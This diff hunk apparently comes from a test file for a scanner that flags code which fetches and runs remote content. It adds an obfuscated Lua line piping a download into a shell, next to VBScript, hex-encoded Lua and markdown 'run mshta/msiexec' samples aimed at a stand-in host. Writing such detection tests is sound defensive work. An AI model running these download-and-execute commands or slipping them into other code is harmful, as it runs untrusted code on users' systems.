@@ -79,6 +79,7 @@ def flows(text: str, language: str, path: str = "file") -> set[tuple[str, str, s
             'local s = ("6f732e65786974"):gsub("..", function(h) return string.char(tonumber(h, 16)) end)\nload(s)()',
             ("eval", "decode", "hex"),
         ),
+        ("lua", r'os.execute("\099url https://c.example/p \124 sh")', ("exec", *FROM)),
         ("html", '<script language="VBScript">s.Run "curl https://c.example/p | cmd"</script>', ("exec", *FROM)),
         ("markdown", "Run `mshta https://c.example/p` first.", ("exec", *FROM)),
         ("markdown", "Run `msiexec /q /i https://c.example/p` first.", ("exec", *FROM)),
